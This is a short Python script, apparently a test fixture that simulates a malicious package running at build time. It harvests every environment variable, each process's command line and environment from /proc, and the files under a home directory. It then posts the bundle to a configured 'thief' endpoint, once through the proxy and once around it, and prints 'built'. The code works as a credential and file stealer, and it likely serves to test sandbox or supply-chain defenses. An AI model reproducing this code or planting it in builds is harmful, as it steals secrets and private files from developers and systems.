# What a malicious package tries when it is built: see ../../npm/evil/steal.js.
import glob, json, os, socket, urllib.request

goal = json.load(open(os.path.join(os.environ["TOP"], "goal.json")))


def read(name):
    try:
        with open(name, "rb") as f:
            return f.read(1 << 20).decode("latin1")
    except OSError:
        return ""


loot = {"env": dict(os.environ), "proc": {}, "files": {}}
for pid in glob.glob("/proc/[0-9]*"):
    loot["proc"][pid] = [read(pid + "/cmdline"), read(pid + "/environ")]
for folder, _, names in os.walk(goal["home"]):
    for name in names:
        loot["files"][os.path.join(folder, name)] = read(os.path.join(folder, name))


def call(url, body=None, opener=urllib.request.urlopen):
    request = urllib.request.Request(url, data=body, headers={"Authorization": "Bearer " + os.environ["SANDBOX_ACCESS_TOKEN"]})
    try:
        with opener(request, timeout=10) as answer:
            return answer.read().decode("latin1")
    except Exception as error:
        return str(error)


loot["echo"] = call(goal["api"])
body = json.dumps(loot).encode()
call(goal["thief"] + "/proxied", body)
call(goal["thief"] + "/plainly", body, urllib.request.build_opener(urllib.request.ProxyHandler({})).open)
print("built")
